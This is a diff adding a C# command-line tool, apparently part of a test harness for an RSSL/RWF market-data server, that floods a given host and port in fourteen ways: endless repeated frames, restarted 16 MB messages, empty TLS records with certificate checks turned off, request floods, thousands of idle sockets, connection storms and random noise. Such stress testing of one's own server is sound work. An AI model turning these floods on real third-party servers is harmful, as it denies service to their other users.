@@ -1,0 +1,248 @@
+using System.Globalization;
+using System.IO.Pipelines;
+using System.Net.Security;
+using System.Net.Sockets;
+using PerfCommon.Codec;
+using PerfCommon.Domains;
+using PerfCommon.Transport;
+
+namespace Floods;
+
+/// <summary>A client that wants to take a provider from the others: it sends without end what costs it little.</summary>
+/// <remarks>Floods kind host:port seconds; it says what it sent. The provider may close the connection: it comes again.</remarks>
+internal static class Program
+{
+    private const int ChunkBytes = 64 * 1024;
+    private const int SilentSockets = 2_000;
+
+    private static readonly Dictionary<string, Func<Attack, CancellationToken, Task>> Kinds = new()
+    {
+        ["pings"] = (attack, stop) => attack.RepeatAsync("000302", stop),
+        ["packs"] = (attack, stop) => attack.RepeatAsync("000312", stop),
+        ["empty-packed"] = (attack, stop) => attack.RepeatAsync("0005120000", stop),
+        ["fragments"] = (attack, stop) => attack.RepeatAsync("000a0308000000050001", stop),
+        ["restarts"] = (attack, stop) => attack.RestartMessagesAsync(stop),
+        ["websocket-pings"] = (attack, stop) => attack.RepeatOverWebSocketAsync("898000000000", stop),
+        ["tls-records"] = (attack, stop) => attack.RepeatEmptyRecordsAsync(stop),
+        ["dictionaries"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Dictionary, reads: false, stop),
+        ["dictionaries-read"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Dictionary, reads: true, stop),
+        ["logins"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Login, reads: true, stop),
+        ["items"] = (attack, stop) => attack.RepeatRequestsAsync(Requests.Item, reads: false, stop),
+        ["silent"] = (attack, stop) => attack.HoldSilentSocketsAsync(SilentSockets, stop),
+        ["storm"] = (attack, stop) => attack.ConnectAndLeaveAsync(stop),
+        ["noise"] = (attack, stop) => attack.SendNoiseAsync(stop),
+    };
+
+    private static async Task<int> Main(string[] args)
+    {
+        if (args is not [var kind, var address, var seconds] || !Kinds.TryGetValue(kind, out Func<Attack, CancellationToken, Task>? run)
+            || address.Split(':') is not [var host, var port])
+        {
+            Console.Error.WriteLine($"usage: Floods kind host:port seconds     (kinds: {string.Join(", ", Kinds.Keys)})");
+            return 2;
+        }
+
+        using CancellationTokenSource stop = new(TimeSpan.FromSeconds(double.Parse(seconds, CultureInfo.InvariantCulture)));
+        Attack attack = new(host, int.Parse(port, CultureInfo.InvariantCulture));
+        while (!stop.IsCancellationRequested)
+        {
+            try
+            {
+                await run(attack, stop.Token);
+            }
+            catch (Exception problem) when (problem is IOException or SocketException or OperationCanceledException)
+            {
+                attack.Ended++; // closed, or over
+            }
+        }
+
+        Console.WriteLine(string.Create(CultureInfo.InvariantCulture, $"{kind,-18} {attack.Bytes / 1e6,8:F1} MB sent, {attack.Connections} connections"));
+        return 0;
+    }
+
+    /// <summary>What is asked for over and over.</summary>
+    private static class Requests
+    {
+        public static byte[] Login(int number) => Encode(new LoginConsumer(new LoginIdentity { UserName = "flood", ApplicationName = "Floods", Position = "127.0.0.1/net" }).EncodeRequest);
+
+        public static byte[] Dictionary(int number) => Encode(room => DomainMsg.Encode(room, new RwfMsg
+        {
+            MsgClass = MsgClass.Request,
+            DomainType = DomainType.Dictionary,
+            StreamId = 10 + (number % 10_000),
+            Key = new MsgKey
+            {
+                Flags = MsgKeyFlags.HasServiceId | MsgKeyFlags.HasName | MsgKeyFlags.HasFilter,
+                ServiceId = 1,
+                Name = DictionaryNames.Fields,
+                Filter = DictionaryVerbosity.Normal,
+            },
+        }));
+
+        public static byte[] Item(int number)
+        {
+            byte[] name = System.Text.Encoding.ASCII.GetBytes(string.Create(CultureInfo.InvariantCulture, $"FLOOD{number}"));
+            return Encode(room => DomainMsg.Encode(room, new RwfMsg
+            {
+                MsgClass = MsgClass.Request,
+                DomainType = DomainType.MarketPrice,
+                StreamId = 10 + number,
+                Flags = RequestFlags.Streaming,
+                Key = new MsgKey { Flags = MsgKeyFlags.HasServiceId | MsgKeyFlags.HasName, ServiceId = 1, Name = name },
+            }));
+        }
+
+        private delegate int Encoder(Span<byte> room);
+
+        private static byte[] Encode(Encoder encode)
+        {
+            byte[] room = new byte[1_024];
+            return room[..encode(room)];
+        }
+    }
+
+    private sealed class Attack(string host, int port)
+    {
+        public long Bytes { get; private set; }
+
+        public int Connections { get; private set; }
+
+        public int Ended { get; set; }
+
+        /// <summary>The same frame over and over, behind a handshake.</summary>
+        public async Task RepeatAsync(string hex, CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+            await ShakeHandsAsync(stream, stop);
+            await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
+        }
+
+        /// <summary>Messages of 16 MB, each begun again before it is whole.</summary>
+        public async Task RestartMessagesAsync(CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+            await ShakeHandsAsync(stream, stop);
+            byte[] first = new byte[6_000];
+            Convert.FromHexString("17700308010000000001").CopyTo(first, 0); // 6,000 bytes, message 1 of 16 MB
+            byte[] next = new byte[6_000];
+            Convert.FromHexString("177003040001").CopyTo(next, 0);
+            while (true)
+            {
+                for (byte id = 1; id <= 60; id++)
+                {
+                    (first[9], next[5]) = (id, id);
+                    await SendAsync(stream, first, stop);
+                    for (int i = 0; i < 160; i++)
+                        await SendAsync(stream, next, stop); // about a megabyte
+                }
+            }
+        }
+
+        /// <summary>The same WebSocket frame over and over, behind the upgrade.</summary>
+        public async Task RepeatOverWebSocketAsync(string hex, CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+            await SendAsync(
+                stream,
+                "GET /WebSocket HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nConnection: upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: rssl.rwf\r\n\r\n"u8.ToArray(),
+                stop);
+            await SendForeverAsync(stream, Convert.FromHexString(hex), stop);
+        }
+
+        /// <summary>TLS records that hold nothing.</summary>
+        public async Task RepeatEmptyRecordsAsync(CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+#pragma warning disable CA5359 // whose certificate it is does not matter to one who floods
+            await using SslStream ssl = new(stream, leaveInnerStreamOpen: true, (_, _, _, _) => true);
+#pragma warning restore CA5359
+            await ssl.AuthenticateAsClientAsync(host);
+            await ShakeHandsAsync(ssl, stop);
+            while (true)
+            {
+                await ssl.WriteAsync(ReadOnlyMemory<byte>.Empty, stop);
+                Bytes += 22;
+            }
+        }
+
+        /// <summary>Requests, one behind the other, whose answers are thrown away or not even read.</summary>
+        public async Task RepeatRequestsAsync(Func<int, byte[]> create, bool reads, CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+            await ShakeHandsAsync(stream, stop);
+            await SendAsync(stream, Frame(Requests.Login(0)), stop);
+            Task reading = reads ? stream.CopyToAsync(Stream.Null, stop) : Task.CompletedTask;
+            for (int number = 0; !reads || !reading.IsCompleted; number++)
+                await SendAsync(stream, Frame(create(number)), stop);
+            await reading;
+        }
+
+        /// <summary>Sockets that say nothing, for as long as they may.</summary>
+        public async Task HoldSilentSocketsAsync(int count, CancellationToken stop)
+        {
+            List<NetworkStream> streams = [];
+            try
+            {
+                while (streams.Count < count)
+                    streams.Add(await ConnectAsync(stop));
+                await Task.Delay(1_000, stop);
+            }
+            finally
+            {
+                streams.ForEach(stream => stream.Dispose());
+            }
+        }
+
+        /// <summary>Handshakes, and then nothing.</summary>
+        public async Task ConnectAndLeaveAsync(CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+            await ShakeHandsAsync(stream, stop);
+        }
+
+        /// <summary>Any bytes behind a handshake.</summary>
+        public async Task SendNoiseAsync(CancellationToken stop)
+        {
+            await using NetworkStream stream = await ConnectAsync(stop);
+            await ShakeHandsAsync(stream, stop);
+            byte[] noise = new byte[10_000];
+            new Random(Connections).NextBytes(noise);
+            await SendAsync(stream, noise, stop);
+        }
+
+        private static byte[] Frame(byte[] message) =>
+            [(byte)((message.Length + 3) >> 8), (byte)(message.Length + 3), 2, .. message];
+
+        private async Task<NetworkStream> ConnectAsync(CancellationToken stop)
+        {
+            Socket socket = new(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
+            await socket.ConnectAsync(host, port, stop);
+            Connections++;
+            return new NetworkStream(socket, ownsSocket: true);
+        }
+
+        // The connection object is left alone behind its handshake: what follows goes into the stream.
+        private async Task ShakeHandsAsync(Stream stream, CancellationToken stop) => await RsslConnection.OpenClientAsync(
+            new StreamDuplex(stream), new ConnectOptions { Host = host, Port = port }, stop);
+
+        private async Task SendForeverAsync(Stream stream, byte[] frame, CancellationToken stop)
+        {
+            byte[] chunk = [.. Enumerable.Repeat(frame, ChunkBytes / frame.Length).SelectMany(bytes => bytes)];
+            while (true)
+                await SendAsync(stream, chunk, stop);
+        }
+
+        private async Task SendAsync(Stream stream, byte[] bytes, CancellationToken stop)
+        {
+            await stream.WriteAsync(bytes, stop);
+            Bytes += bytes.Length;
+        }
+    }
+
+    private sealed class StreamDuplex(Stream stream) : IDuplexPipe
+    {
+        public PipeReader Input { get; } = PipeReader.Create(stream, new StreamPipeReaderOptions(leaveOpen: true));
+
+        public PipeWriter Output { get; } = PipeWriter.Create(stream, new StreamPipeWriterOptions(leaveOpen: true));
+    }
+}
